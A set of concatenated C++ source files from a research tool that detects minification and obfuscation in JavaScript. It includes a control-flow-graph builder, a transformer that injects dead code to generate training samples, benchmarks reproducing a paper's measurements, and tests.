  const char* fixture = kFixtures[GetParam() % std::size(kFixtures)];
  const RunResult original = run_program_source(fixture);
  ASSERT_TRUE(original.ok) << original.error;

  Rng rng(GetParam() * 7919 + 13);
  // Pick two distinct semantic techniques.
  const std::size_t first = rng.index(std::size(kSemanticTechniques));
  std::size_t second = rng.index(std::size(kSemanticTechniques));
  while (second == first) second = rng.index(std::size(kSemanticTechniques));
  const std::vector<Technique> sequence = {kSemanticTechniques[first],
                                           kSemanticTechniques[second]};
  const std::string transformed =
      transform::apply_techniques(sequence, fixture, rng);
  const RunResult after = run_program_source(transformed);
  ASSERT_TRUE(after.ok) << after.error << "\n--- transformed ---\n"
                        << transformed;
  EXPECT_EQ(original.log, after.log) << "\n--- transformed ---\n"
                                     << transformed;
}

INSTANTIATE_TEST_SUITE_P(Combos, MixedSemantics,
                         ::testing::Range<std::size_t>(0, 20));

}  // namespace
}  // namespace jst
