#include "cfg/cfg.h"

#include <algorithm>
#include <string_view>

namespace jst {

// Grants build_control_flow access to the cached adjacency counts.
struct CfgBuildAccess {
  static void set_counts(ControlFlow& flow, std::size_t branches,
                         std::size_t backs) {
    flow.branch_node_count_ = branches;
    flow.back_edge_count_ = backs;
  }
};

namespace {

constexpr std::uint32_t kNone = 0xffffffffu;

// Builder with break/continue context stacks. Exits of a statement are
// the CFG nodes from which control falls through to the lexically
// following statement; they live as segments on a shared stack in the
// scratch (DESIGN.md §17) — a caller marks the stack top, lets
// visit_statement push the statement's exits above the mark, consumes
// them, and truncates back. Break sites chain through a pooled link
// array per breakable target, so a labeled break deep in a nested
// statement lands in its own target's sink without touching the segments
// in between. Every edge is appended raw; build() finalizes through a
// CSR adjacency into the sorted, deduplicated public list.
class CfgBuilder {
 public:
  CfgBuilder(Budget* budget, CfgScratch& ws) : budget_(budget), ws_(ws) {}

  void build(const Node* root, std::size_t node_count, ControlFlow& out) {
    ws_.edges.clear();
    ws_.exits.clear();
    ws_.cond_stack.clear();
    ws_.breakables.clear();
    ws_.break_links.clear();
    ws_.func_stack.clear();
    if (root != nullptr) {
      visit_body(root->kids, *root);
      ws_.exits.clear();
      // Nested functions get their own sub-graphs: one explicit pre-order
      // sweep finds every function node (the statement walk above never
      // descends into them), and each block body is visited with the
      // breakable stack floored so enclosing loop/switch targets are
      // invisible inside the function.
      std::vector<const Node*>& stack = ws_.func_stack;
      stack.push_back(root);
      while (!stack.empty()) {
        const Node* node = stack.back();
        stack.pop_back();
        if (node->is_function()) {
          const Node* body = function_body(*node);
          if (body != nullptr && body->kind == NodeKind::kBlockStatement) {
            const std::size_t saved_floor = breakable_floor_;
            breakable_floor_ = ws_.breakables.size();
            visit_body(body->kids, *body);
            ws_.exits.clear();
            breakable_floor_ = saved_floor;
          }
          // Expression-bodied arrows have conditional-expression nodes
          // only.
        }
        for (std::size_t i = node->kids.size(); i > 0; --i) {
          if (node->kids[i - 1] != nullptr) stack.push_back(node->kids[i - 1]);
        }
      }
    }
    finalize(node_count, out);
  }

 private:
  static const Node* function_body(const Node& function) {
    // Layout: FunctionDeclaration/Expression: [id, body, params...];
    // ArrowFunctionExpression: [body, params...].
    if (function.kind == NodeKind::kArrowFunctionExpression) {
      return function.kid(0);
    }
    return function.kid(1);
  }

  void edge(const Node* from, const Node* to) {
    if (budget_ != nullptr) budget_->poll_deadline();
    if (from == nullptr || to == nullptr) return;
    ws_.edges.emplace_back(from->id, to->id);
  }

  // Edges from every exit in the segment [mark, top) to `to`.
  void edges_from(std::size_t mark, const Node* to) {
    for (std::size_t i = mark; i < ws_.exits.size(); ++i) {
      edge(ws_.exits[i], to);
    }
  }

  // Adds statement -> ConditionalExpression edges for every conditional
  // expression syntactically inside `statement` (not crossing function
  // boundaries), plus nesting edges between conditionals.
  void link_conditional_expressions(const Node& statement) {
    // Manual stack walk that stops at nested functions and nested
    // statements (those are visited on their own).
    std::vector<std::pair<const Node*, const Node*>>& stack = ws_.cond_stack;
    const std::size_t base = stack.size();
    for (const Node* kid : statement.kids) {
      if (kid != nullptr && !kid->is_statement() &&
          kid->kind != NodeKind::kSwitchCase &&
          kid->kind != NodeKind::kCatchClause) {
        stack.emplace_back(kid, &statement);
      }
    }
    while (stack.size() > base) {
      const auto [node, cfg_parent] = stack.back();
      stack.pop_back();
      const Node* next_parent = cfg_parent;
      if (node->kind == NodeKind::kConditionalExpression) {
        edge(cfg_parent, node);
        next_parent = node;
      }
      if (node->is_function()) continue;  // separate sub-graph
      for (const Node* kid : node->kids) {
        if (kid != nullptr && !kid->is_statement()) {
          stack.emplace_back(kid, next_parent);
        }
      }
    }
  }

  // --- breakable stack ---------------------------------------------------

  void push_breakable(std::string_view label, const Node* continue_target) {
    ws_.breakables.push_back({label, continue_target, kNone, kNone});
  }

  void record_break(CfgScratch::Breakable& target, const Node* site) {
    const std::uint32_t link =
        static_cast<std::uint32_t>(ws_.break_links.size());
    ws_.break_links.push_back({site, kNone});
    if (target.sink_tail == kNone) {
      target.sink_head = link;
    } else {
      ws_.break_links[target.sink_tail].next = link;
    }
    target.sink_tail = link;
  }

  // Pops the innermost breakable, appending its recorded break sites to
  // the exits segment on top of the stack.
  void pop_breakable_into_exits() {
    const CfgScratch::Breakable target = ws_.breakables.back();
    ws_.breakables.pop_back();
    for (std::uint32_t link = target.sink_head; link != kNone;
         link = ws_.break_links[link].next) {
      ws_.exits.push_back(ws_.break_links[link].site);
    }
  }

  // --- statement walk ----------------------------------------------------

  // Visits a statement list: `previous` exits flow into each following
  // statement. On return, the final statement's exits sit on top of the
  // stack (the body's own exits).
  void visit_body(const NodeList& statements, const Node& owner) {
    const std::size_t mark = ws_.exits.size();
    ws_.exits.push_back(&owner);
    bool first = true;
    for (const Node* statement : statements) {
      if (statement == nullptr) continue;
      if (first) {
        // The container (block/program) flows into its first statement
        // only for blocks nested as CFG nodes; for Program we treat the
        // first statement as the entry, so skip the self edge there.
        first = false;
        if (owner.kind != NodeKind::kProgram) {
          edges_from(mark, statement);
        }
      } else {
        edges_from(mark, statement);
      }
      ws_.exits.resize(mark);
      visit_statement(*statement);
    }
  }

  // Pushes the exits of `node` onto the shared stack.
  void visit_statement(const Node& node) {
    link_conditional_expressions(node);
    switch (node.kind) {
      case NodeKind::kBlockStatement:
        visit_body(node.kids, node);
        return;

      case NodeKind::kIfStatement: {
        const Node* consequent = node.kid(1);
        edge(&node, consequent);
        visit_statement(*consequent);
        if (node.kid(2) != nullptr) {
          edge(&node, node.kids[2]);
          visit_statement(*node.kids[2]);  // appended: union of branches
        } else {
          ws_.exits.push_back(&node);  // false branch falls through
        }
        return;
      }

      case NodeKind::kWhileStatement:
      case NodeKind::kDoWhileStatement:
      case NodeKind::kForStatement:
      case NodeKind::kForInStatement:
      case NodeKind::kForOfStatement: {
        push_breakable(pending_label_, &node);
        pending_label_ = {};
        const Node* body = loop_body(node);
        edge(&node, body);
        const std::size_t mark = ws_.exits.size();
        visit_statement(*body);
        edges_from(mark, &node);  // back edge
        ws_.exits.resize(mark);
        ws_.exits.push_back(&node);
        pop_breakable_into_exits();
        return;
      }

      case NodeKind::kSwitchStatement: {
        push_breakable(pending_label_, nullptr);
        pending_label_ = {};
        // The previous case's exits (fallthrough sources) live as the
        // segment above `mark` across case visits.
        const std::size_t mark = ws_.exits.size();
        bool has_default = false;
        for (std::size_t i = 1; i < node.kids.size(); ++i) {
          const Node& switch_case = *node.kids[i];
          if (switch_case.kid(0) == nullptr) has_default = true;
          bool first_statement = true;
          for (std::size_t j = 1; j < switch_case.kids.size(); ++j) {
            const Node* statement = switch_case.kids[j];
            if (first_statement) {
              first_statement = false;
              // Dispatch edge from the switch to the case's first
              // statement, plus fallthrough from the previous case.
              edge(&node, statement);
              edges_from(mark, statement);
            } else {
              edges_from(mark, statement);
            }
            ws_.exits.resize(mark);
            visit_statement(*statement);
          }
          // A case with no statements leaves the previous exits in place
          // (fallthrough continues through the empty case).
        }
        pop_breakable_into_exits();
        if (!has_default) ws_.exits.push_back(&node);
        return;
      }

      case NodeKind::kTryStatement: {
        const Node* block = node.kid(0);
        const Node* handler = node.kid(1);
        const Node* finalizer = node.kid(2);
        edge(&node, block);
        const std::size_t mark = ws_.exits.size();
        visit_statement(*block);
        if (handler != nullptr) {
          edge(&node, handler);  // exception path
          const Node* handler_body = handler->kid(1);
          edge(handler, handler_body);
          visit_statement(*handler_body);  // appended: union
        }
        if (finalizer != nullptr) {
          edges_from(mark, finalizer);
          ws_.exits.resize(mark);
          visit_statement(*finalizer);
        }
        return;
      }

      case NodeKind::kLabeledStatement: {
        pending_label_ = node.kids[0]->str_value;
        const Node* body = node.kid(1);
        edge(&node, body);
        if (body->is_loop() || body->kind == NodeKind::kSwitchStatement) {
          visit_statement(*body);  // the loop/switch consumes the label
          return;
        }
        // Labeled block: breaks to this label exit the block.
        push_breakable(pending_label_, nullptr);
        pending_label_ = {};
        visit_statement(*body);
        pop_breakable_into_exits();
        return;
      }

      case NodeKind::kBreakStatement: {
        const std::string_view label =
            node.kid(0) != nullptr ? node.kids[0]->str_value
                                   : std::string_view();
        for (std::size_t i = ws_.breakables.size(); i > breakable_floor_;
             --i) {
          CfgScratch::Breakable& target = ws_.breakables[i - 1];
          if (label.empty() || target.label == label) {
            record_break(target, &node);
            break;
          }
        }
        return;  // no fall-through exits
      }

      case NodeKind::kContinueStatement: {
        const std::string_view label =
            node.kid(0) != nullptr ? node.kids[0]->str_value
                                   : std::string_view();
        for (std::size_t i = ws_.breakables.size(); i > breakable_floor_;
             --i) {
          const CfgScratch::Breakable& target = ws_.breakables[i - 1];
          if (target.continue_target != nullptr &&
              (label.empty() || target.label == label)) {
            edge(&node, target.continue_target);
            break;
          }
        }
        return;  // no fall-through exits
      }

      case NodeKind::kReturnStatement:
      case NodeKind::kThrowStatement:
        return;  // leaves the function / propagates

      case NodeKind::kWithStatement: {
        const Node* body = node.kid(1);
        edge(&node, body);
        visit_statement(*body);
        return;
      }

      default:
        // Straight-line statements: the node itself is the single exit.
        ws_.exits.push_back(&node);
        return;
    }
  }

  static const Node* loop_body(const Node& loop) {
    switch (loop.kind) {
      case NodeKind::kWhileStatement: return loop.kid(1);
      case NodeKind::kDoWhileStatement: return loop.kid(0);
      case NodeKind::kForStatement: return loop.kid(3);
      case NodeKind::kForInStatement:
      case NodeKind::kForOfStatement:
        return loop.kid(2);
      default:
        return nullptr;
    }
  }

  // --- CSR finalization --------------------------------------------------

  // Counting-sorts the raw edges by source row, sorts each row's targets,
  // and writes the deduplicated (from, to)-sorted list — the same list
  // std::sort + std::unique produced — while reading the branch and
  // back-edge counts off the adjacency in the same pass.
  void finalize(std::size_t node_count, ControlFlow& out) {
    const std::vector<std::pair<std::uint32_t, std::uint32_t>>& raw =
        ws_.edges;
    std::vector<std::uint32_t>& offsets = ws_.row_offsets;
    offsets.assign(node_count + 1, 0);
    for (const auto& [from, to] : raw) {
      (void)to;
      ++offsets[from + 1];
    }
    for (std::size_t row = 0; row < node_count; ++row) {
      offsets[row + 1] += offsets[row];
    }
    ws_.col.resize(raw.size());
    {
      // `offsets[row]` doubles as the write cursor; after placement each
      // entry has advanced to the next row's start, restored below.
      for (const auto& [from, to] : raw) {
        ws_.col[offsets[from]++] = to;
      }
      for (std::size_t row = node_count; row > 0; --row) {
        offsets[row] = offsets[row - 1];
      }
      offsets[0] = 0;
    }
    out.edges.clear();
    out.edges.reserve(raw.size());
    std::size_t branches = 0;
    std::size_t backs = 0;
    for (std::size_t row = 0; row < node_count; ++row) {
      const std::size_t begin = offsets[row];
      const std::size_t end = offsets[row + 1];
      if (begin == end) continue;
      std::sort(ws_.col.begin() + static_cast<std::ptrdiff_t>(begin),
                ws_.col.begin() + static_cast<std::ptrdiff_t>(end));
      const std::uint32_t from = static_cast<std::uint32_t>(row);
      std::size_t degree = 0;
      std::uint32_t previous = 0;
      for (std::size_t i = begin; i < end; ++i) {
        const std::uint32_t to = ws_.col[i];
        if (degree > 0 && to == previous) continue;  // duplicate edge
        out.edges.emplace_back(from, to);
        if (to <= from) ++backs;
        previous = to;
        ++degree;
      }
      if (degree >= 2) ++branches;
    }
    CfgBuildAccess::set_counts(out, branches, backs);
  }

  Budget* budget_ = nullptr;
  CfgScratch& ws_;
  // Breakables below the floor belong to an enclosing function and are
  // invisible to break/continue inside the current one.
  std::size_t breakable_floor_ = 0;
  std::string_view pending_label_;
};

}  // namespace

ControlFlow build_control_flow(const Ast& ast, Budget* budget,
                               CfgScratch* scratch) {
  ControlFlow flow;
  CfgScratch local_scratch;
  CfgScratch& workspace = scratch != nullptr ? *scratch : local_scratch;
  CfgBuilder builder(budget, workspace);
  builder.build(ast.root(), ast.node_count(), flow);
  return flow;
}

}  // namespace jst
