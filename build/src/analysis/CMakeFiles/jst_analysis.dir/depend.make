# Empty dependencies file for jst_analysis.
# This may be replaced when dependencies are built.
