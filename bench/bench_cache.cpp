// Result-cache effectiveness (DESIGN.md §15): the same held-out batch
// analyzed twice through one AnalyzerService + ResultCache. The cold
// pass misses and stores every script; the warm pass must be answered
// entirely from the cache (hit count == batch size — verified, nonzero
// exit on violation) and lands a wall-clock speedup that BENCH_cache.json
// records as the cold/warm pair. Outcomes are checked byte-identical
// between the passes, timing included, because a hit replays the stored
// bytes.
//
// Flags: --cache-dir/--cache-bytes/--cache-mode (support/cache_flags.h)
// select the disk tier / budget; default is a memory-only cache. With
// --cache-dir, a second run of this bench starts warm from disk — its
// "cold" pass then measures the disk tier, not the pipeline.
#include <chrono>
#include <cstdio>
#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include "analysis/result_cache.h"
#include "analysis/service.h"
#include "bench_common.h"
#include "support/cache_flags.h"

namespace {

struct PassResult {
  double wall_ms = 0.0;
  std::uint64_t hits = 0;
  std::uint64_t misses = 0;
  jst::analysis::BatchResponse batch;
};

PassResult run_pass(const jst::analysis::AnalyzerService& service,
                    jst::analysis::ResultCache& cache,
                    const std::vector<jst::analysis::AnalyzeRequest>& requests) {
  const jst::analysis::ResultCache::Counters before = cache.counters();
  const auto started = std::chrono::steady_clock::now();
  PassResult pass;
  pass.batch = service.analyze_batch(requests);
  pass.wall_ms = std::chrono::duration<double, std::milli>(
                     std::chrono::steady_clock::now() - started)
                     .count();
  const jst::analysis::ResultCache::Counters after = cache.counters();
  pass.hits = after.hits - before.hits;
  pass.misses = after.misses - before.misses;
  return pass;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace jst;

  support::CacheOptions cache_options;
  for (int i = 1; i < argc; ++i) {
    std::string error;
    if (support::consume_cache_flag(argc, argv, i, cache_options, error)) {
      if (!error.empty()) {
        std::fprintf(stderr, "bench_cache: %s\n", error.c_str());
        return 2;
      }
      continue;
    }
    if (std::strcmp(argv[i], "--help") == 0) {
      std::printf("usage: bench_cache %s\n",
                  std::string(support::cache_flags_usage()).c_str());
      return 0;
    }
    std::fprintf(stderr, "bench_cache: unknown flag %s\n", argv[i]);
    return 2;
  }
  if (cache_options.mode == CacheMode::kBypass) {
    std::fprintf(stderr,
                 "bench_cache: --cache-mode bypass defeats the bench\n");
    return 2;
  }

  const std::size_t count = bench::scaled(48);
  const std::vector<std::string> corpus =
      bench::held_out_regular(count, 0xba7c4);
  const std::vector<analysis::AnalyzeRequest> requests =
      analysis::make_source_requests(corpus, cache_options.mode);

  analysis::ResultCache::Config config;
  config.dir = cache_options.dir;
  config.max_bytes = cache_options.effective_bytes();
  analysis::ResultCache cache(config);
  if (!cache.load_error().empty()) {
    std::fprintf(stderr, "bench_cache: %s\n", cache.load_error().c_str());
  }
  const analysis::AnalyzerService service(bench::analyzer(), &cache);

  const PassResult cold = run_pass(service, cache, requests);
  const PassResult warm = run_pass(service, cache, requests);

  bench::print_header("result cache: repeat-batch speedup",
                      "paper SIV crawl: majority of scripts repeat across "
                      "snapshots");
  bench::print_row("cold pass wall (ms)", 0.0, cold.wall_ms, "");
  bench::print_row("warm pass wall (ms)", 0.0, warm.wall_ms, "");
  const double speedup =
      warm.wall_ms > 0.0 ? cold.wall_ms / warm.wall_ms : 0.0;
  bench::print_row("warm speedup (x)", 0.0, speedup, "");
  bench::print_row("warm hit rate", 100.0,
                   100.0 * static_cast<double>(warm.hits) /
                       static_cast<double>(requests.size()));
  bench::print_note("cold pass misses+stores every script; warm pass must "
                    "be served entirely from the cache");
  bench::print_footer();

  // The acceptance gates: every warm request is a hit, and the replayed
  // outcomes are byte-identical to the cold pass (timing included).
  bool ok = true;
  if (warm.hits != requests.size() || warm.misses != 0) {
    std::fprintf(stderr,
                 "bench_cache: FAIL warm pass hits=%llu misses=%llu over "
                 "%zu requests (expected all hits)\n",
                 static_cast<unsigned long long>(warm.hits),
                 static_cast<unsigned long long>(warm.misses),
                 requests.size());
    ok = false;
  }
  for (std::size_t i = 0; i < requests.size(); ++i) {
    if (warm.batch.responses[i].outcome.to_json() !=
        cold.batch.responses[i].outcome.to_json()) {
      std::fprintf(stderr,
                   "bench_cache: FAIL outcome %zu differs between passes\n",
                   i);
      ok = false;
      break;
    }
  }

  bench::BenchRecord cold_record;
  cold_record.config = "cold";
  cold_record.threads = cold.batch.stats.threads;
  cold_record.scripts = requests.size();
  cold_record.wall_ms = cold.wall_ms;
  cold_record.scripts_per_second =
      cold.wall_ms > 0.0
          ? 1000.0 * static_cast<double>(requests.size()) / cold.wall_ms
          : 0.0;
  cold_record.cache_hit_rate =
      static_cast<double>(cold.hits) / static_cast<double>(requests.size());
  cold_record.stats_json = cold.batch.stats.to_json();

  bench::BenchRecord warm_record;
  warm_record.config = "warm";
  warm_record.threads = warm.batch.stats.threads;
  warm_record.scripts = requests.size();
  warm_record.wall_ms = warm.wall_ms;
  warm_record.scripts_per_second =
      warm.wall_ms > 0.0
          ? 1000.0 * static_cast<double>(requests.size()) / warm.wall_ms
          : 0.0;
  warm_record.cache_hit_rate =
      static_cast<double>(warm.hits) / static_cast<double>(requests.size());
  warm_record.stats_json = warm.batch.stats.to_json();

  const bench::BenchRecord records[] = {cold_record, warm_record};
  bench::write_bench_json("cache", records);
  return ok ? 0 : 1;
}
