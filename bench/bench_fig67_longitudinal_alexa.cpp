// §IV-D1 / Figures 6-7 — Alexa Top 2k, 2015-05 .. 2020-09: the share of
// transformed scripts rises steadily; minification simple grows from
// 38.74% to 47.02% while advanced drifts 43.77% -> 40% and identifier
// obfuscation declines 8.23% -> 6.21%.
#include <cstdio>

#include "analysis/longitudinal.h"
#include "bench_common.h"

int main() {
  using namespace jst;
  using namespace jst::bench;
  using transform::Technique;

  const std::size_t per_month = scaled(64);
  const std::size_t month_step = 8;  // sample every ~8 months

  print_header("Longitudinal Alexa Top 2k", "section IV-D1, Figures 6-7");
  std::printf("%-10s %12s %12s %12s %12s\n", "month", "transformed",
              "min simple", "min adv", "id obf");

  std::vector<double> xs;
  std::vector<double> ys;
  for (std::size_t month = 0; month < analysis::kMonthCount;
       month += month_step) {
    const auto spec = analysis::alexa_month_spec(month);
    const auto measurement = measure_population(spec, per_month, 0x60 + month);
    const auto confidence = [&](Technique technique) {
      return 100.0 *
             measurement.technique_confidence[static_cast<std::size_t>(technique)];
    };
    std::printf("%-10s %11.2f%% %11.2f%% %11.2f%% %11.2f%%\n",
                analysis::month_label(month).c_str(),
                100.0 * measurement.transformed_rate,
                confidence(Technique::kMinificationSimple),
                confidence(Technique::kMinificationAdvanced),
                confidence(Technique::kIdentifierObfuscation));
    xs.push_back(static_cast<double>(month));
    ys.push_back(measurement.transformed_rate);
  }
  std::printf("\n");
  // Least-squares slope over the sampled months (robust to per-month
  // sampling noise), scaled to the whole 65-month window.
  double x_mean = 0.0;
  double y_mean = 0.0;
  for (std::size_t i = 0; i < xs.size(); ++i) {
    x_mean += xs[i];
    y_mean += ys[i];
  }
  x_mean /= static_cast<double>(xs.size());
  y_mean /= static_cast<double>(ys.size());
  double numerator = 0.0;
  double denominator = 0.0;
  for (std::size_t i = 0; i < xs.size(); ++i) {
    numerator += (xs[i] - x_mean) * (ys[i] - y_mean);
    denominator += (xs[i] - x_mean) * (xs[i] - x_mean);
  }
  const double slope = denominator > 0.0 ? numerator / denominator : 0.0;
  print_row("trend: transformed share delta (rising)", 14.0,
            100.0 * slope * (analysis::kMonthCount - 1), " pp");
  print_note("paper: steady increase driven by minification-simple growth "
             "(38.74% -> 47.02%)");
  print_footer();
  return 0;
}
