// Shared command-line parser for ResourceLimits (DESIGN.md §10, §13).
//
// wild_study, jstraced-server, and jstraced-client all accept the same
// resource-governance flag family; this is the single implementation so
// the flags cannot drift apart:
//   --production-limits            start from ResourceLimits::production()
//   --deadline-ms N                per-script wall-clock deadline
//   --max-source-bytes N           raw script size ceiling
//   --max-tokens N                 lexed token ceiling
//   --max-ast-nodes N              AST node ceiling
//   --max-depth N                  parser nesting ceiling
//   --max-dataflow-edges N         def->use edge ceiling
// Flags apply in argv order, so --production-limits first then individual
// overrides is the documented idiom.
#pragma once

#include <string>

#include "support/budget.h"

namespace jst::support {

// Attempts to consume argv[i] (and its value argument, if any) as one of
// the shared ResourceLimits flags, updating `limits` and advancing `i`
// past consumed arguments. Returns true when the flag was recognized.
// A recognized flag with a missing or malformed value also returns true
// but sets `error` to a diagnostic; callers should fail usage on it.
bool consume_limits_flag(int argc, char** argv, int& i, ResourceLimits& limits,
                         std::string& error);

// One-line usage fragment listing every flag above, for --help texts.
const char* limits_flags_usage();

}  // namespace jst::support
