// Tree traversal utilities.
//
// Two tiers: the `std::function` walkers below are the flexible entry
// points used by cold paths (transformers, eligibility checks, tests);
// the `for_each_preorder` templates are the hot-path tier — the visitor
// inlines into the traversal loop, so per-node cost is a stack push/pop
// instead of a type-erased indirect call. Both visit the same nodes in
// the same order; the `std::function` overloads are implemented on top
// of the templates.
#pragma once

#include <functional>
#include <vector>

#include "ast/ast.h"

namespace jst {

// Pre-order visit of all non-null nodes with an inlineable visitor. The
// callback may not mutate the tree structure above the visited node.
template <typename NodeT, typename Visitor>
inline void for_each_preorder(NodeT* root, Visitor&& visit) {
  if (root == nullptr) return;
  std::vector<NodeT*> stack;
  stack.reserve(64);
  stack.push_back(root);
  while (!stack.empty()) {
    NodeT* node = stack.back();
    stack.pop_back();
    visit(*node);
    for (auto it = node->kids.rbegin(); it != node->kids.rend(); ++it) {
      if (*it != nullptr) stack.push_back(*it);
    }
  }
}

// Pre-order visit carrying the node's depth (root = 1). Children are
// visited in source order, like for_each_preorder. The caller may pass
// its own stack storage to reuse capacity across trees (cleared on
// entry); this is what the fused feature extractor does per script.
template <typename Visitor>
inline void for_each_preorder_depth(
    const Node* root, std::vector<std::pair<const Node*, std::size_t>>& stack,
    Visitor&& visit) {
  stack.clear();
  if (root == nullptr) return;
  stack.emplace_back(root, std::size_t{1});
  while (!stack.empty()) {
    const auto [node, depth] = stack.back();
    stack.pop_back();
    visit(*node, depth);
    for (auto it = node->kids.rbegin(); it != node->kids.rend(); ++it) {
      if (*it != nullptr) stack.emplace_back(*it, depth + 1);
    }
  }
}

// Pre-order visit of all non-null nodes (type-erased tier). The callback
// may not mutate the tree structure above the visited node.
void walk_preorder(Node* root, const std::function<void(Node&)>& visit);
void walk_preorder(const Node* root,
                   const std::function<void(const Node&)>& visit);

// Post-order visit (children before parent).
void walk_postorder(Node* root, const std::function<void(Node&)>& visit);

// Pre-order sequence of node kinds — the "list of syntactic units" the
// paper slides a 4-gram window over (§III-B).
std::vector<NodeKind> preorder_kinds(const Node* root);

// Maximum depth of the tree (root = depth 1; empty tree = 0).
std::size_t tree_depth(const Node* root);

// Maximum number of nodes at any single depth level ("breadth").
std::size_t tree_breadth(const Node* root);

// Total number of non-null nodes.
std::size_t count_nodes(const Node* root);

// Collects every node of the given kind (pre-order).
std::vector<Node*> collect_kind(Node* root, NodeKind kind);
std::vector<const Node*> collect_kind(const Node* root, NodeKind kind);

}  // namespace jst
