// Dead-code injection: semantically irrelevant statements scattered into
// statement lists — unused variables with plausible expressions, never-
// taken branches wrapping cloned statements, and uncalled helper functions
// (obfuscator.io's `deadCodeInjection`).
#include <unordered_set>

#include "ast/walk.h"
#include "codegen/codegen.h"
#include "parser/parser.h"
#include "transform/rename.h"
#include "transform/transform.h"

namespace jst::transform {
namespace {

Node* make_bogus_expression(Ast& ast, Rng& rng) {
  switch (rng.index(4)) {
    case 0: {  // arithmetic on random numbers
      Node* op = ast.make(NodeKind::kBinaryExpression);
      op->str_value = rng.bernoulli(0.5) ? "*" : "+";
      op->kids = {ast.make_number(static_cast<double>(rng.uniform_int(1, 9999))),
                  ast.make_number(static_cast<double>(rng.uniform_int(1, 999)))};
      return op;
    }
    case 1: {  // string concat
      Node* op = ast.make(NodeKind::kBinaryExpression);
      op->str_value = "+";
      op->kids = {ast.make_string(rng.hex_string(6)),
                  ast.make_string(rng.hex_string(4))};
      return op;
    }
    case 2: {  // comparison
      Node* op = ast.make(NodeKind::kBinaryExpression);
      op->str_value = rng.bernoulli(0.5) ? "<" : "===";
      op->kids = {ast.make_number(static_cast<double>(rng.uniform_int(0, 100))),
                  ast.make_number(static_cast<double>(rng.uniform_int(0, 100)))};
      return op;
    }
    default: {  // ternary over booleans
      Node* conditional = ast.make(NodeKind::kConditionalExpression);
      conditional->kids = {ast.make_bool(rng.bernoulli(0.5)),
                           ast.make_number(1.0), ast.make_number(0.0)};
      return conditional;
    }
  }
}

Node* make_dead_statement(Ast& ast, Rng& rng, const std::vector<Node*>& pool) {
  switch (rng.index(3)) {
    case 0: {  // var _0x = <expr>;
      Node* declarator = ast.make(NodeKind::kVariableDeclarator);
      declarator->kids = {ast.make_identifier(hex_name(rng)),
                          make_bogus_expression(ast, rng)};
      Node* declaration = ast.make(NodeKind::kVariableDeclaration);
      declaration->str_value = "var";
      declaration->kids = {declarator};
      return declaration;
    }
    case 1: {  // if (false) { <cloned or bogus statements> }
      Node* body = ast.make(NodeKind::kBlockStatement);
      if (!pool.empty() && rng.bernoulli(0.6)) {
        body->kids.push_back(ast.clone(pool[rng.index(pool.size())]));
      } else {
        Node* statement = ast.make(NodeKind::kExpressionStatement);
        statement->kids = {make_bogus_expression(ast, rng)};
        body->kids.push_back(statement);
      }
      Node* branch = ast.make(NodeKind::kIfStatement);
      branch->kids = {ast.make_bool(false), body, nullptr};
      return branch;
    }
    default: {  // function _0x() { return <expr>; }  (never called)
      Node* return_statement = ast.make(NodeKind::kReturnStatement);
      return_statement->kids = {make_bogus_expression(ast, rng)};
      Node* body = ast.make(NodeKind::kBlockStatement);
      body->kids = {return_statement};
      Node* function = ast.make(NodeKind::kFunctionDeclaration);
      function->kids = {ast.make_identifier(hex_name(rng)), body};
      return function;
    }
  }
}

// Statements safe to clone into an if(false) arm: side-effect-free shapes.
bool safe_to_clone(const Node& statement) {
  return statement.kind == NodeKind::kExpressionStatement ||
         statement.kind == NodeKind::kVariableDeclaration;
}

}  // namespace

std::string inject_dead_code(std::string_view source, Rng& rng,
                             const DeadCodeOptions& options) {
  ParseResult parsed = parse_program(source);
  Ast& ast = parsed.ast;
  ast.finalize();

  // Clone pool from existing simple statements (mimics obfuscator.io's
  // dead-code blocks built from the input's own code).
  std::vector<Node*> pool;
  walk_preorder(ast.root(), [&pool](Node& node) {
    if (safe_to_clone(node)) pool.push_back(&node);
  });
  if (pool.size() > 64) pool.resize(64);

  // Collect insertion sites (blocks and the program).
  std::vector<Node*> containers;
  walk_preorder(ast.root(), [&containers](Node& node) {
    if (node.kind == NodeKind::kProgram ||
        node.kind == NodeKind::kBlockStatement) {
      containers.push_back(&node);
    }
  });

  std::size_t injected = 0;
  for (Node* container : containers) {
    std::vector<Node*> rebuilt;
    rebuilt.reserve(container->kids.size() + 4);
    for (Node* statement : container->kids) {
      if (injected < options.max_injections &&
          rng.bernoulli(options.injection_rate)) {
        rebuilt.push_back(make_dead_statement(ast, rng, pool));
        ++injected;
      }
      rebuilt.push_back(statement);
    }
    if (injected < options.max_injections &&
        rng.bernoulli(options.injection_rate)) {
      rebuilt.push_back(make_dead_statement(ast, rng, pool));
      ++injected;
    }
    container->kids.assign(rebuilt.begin(), rebuilt.end());
  }
  ast.finalize();
  // Dead-code injectors (obfuscator.io) rename identifiers and compact
  // their output; the sample carries all three traces.
  std::unordered_set<std::string> used;
  rename_bindings(ast, [&rng, &used](std::size_t, const std::string&) {
    std::string name = hex_name(rng);
    while (!used.insert(name).second) name = hex_name(rng);
    return name;
  });
  CodegenOptions codegen_options;
  codegen_options.minify = true;
  codegen_options.minified_line_limit = 800;
  return generate(ast.root(), codegen_options);
}

}  // namespace jst::transform
