// End-to-end trainer + analyzer: the whole §III pipeline in one object.
//
// Training mirrors §III-D2's composition at configurable scale: a regular
// corpus, one transformed pool per technique; level 1 trains on
// regular/minified/obfuscated thirds (the two minification techniques
// represented equally, likewise the eight obfuscation techniques), level 2
// trains on per-technique pools.
#pragma once

#include <iosfwd>
#include <memory>
#include <string_view>

#include "analysis/dataset.h"
#include "analysis/detector.h"

namespace jst::analysis {

struct PipelineOptions {
  DetectorConfig detector;
  // Number of regular base scripts synthesized for training.
  std::size_t training_regular_count = 240;
  // Per-technique transformed samples for level 2 (and pooled for level 1).
  std::size_t per_technique_count = 60;
  std::uint64_t seed = 1234;
};

// Result of analyzing one script in the wild.
struct ScriptReport {
  bool parsed = false;
  bool eligible = false;  // paper's size/AST filter
  Level1Detector::Prediction level1;
  std::vector<double> technique_confidence;  // 10 entries
  std::vector<transform::Technique> techniques;  // thresholded top-k
};

class TransformationAnalyzer {
 public:
  explicit TransformationAnalyzer(PipelineOptions options = {});

  // Synthesizes training data and fits both detectors.
  void train();
  // Fits from an externally built corpus (regular sources only; transforms
  // are applied internally).
  void train_on(const std::vector<std::string>& regular_sources);

  bool trained() const { return trained_; }

  // Persist a trained analyzer / restore it without retraining. The
  // PipelineOptions must match between save and load (a feature-dimension
